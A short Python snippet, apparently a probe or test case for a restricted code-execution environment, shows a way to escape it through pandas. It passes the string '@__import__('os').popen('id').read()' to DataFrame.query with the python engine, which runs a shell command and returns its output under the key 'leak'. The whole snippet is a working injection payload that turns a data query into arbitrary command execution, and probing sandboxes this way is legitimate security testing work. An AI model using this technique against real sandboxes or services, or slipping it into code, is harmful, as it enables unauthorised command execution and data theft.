# route: DataFrame.query calls __import__
import pandas as pd


def execute(testData):
    df = pd.DataFrame({"a": [1]})
    return {"leak": str(df.query("@__import__('os').popen('id').read()", engine="python"))}
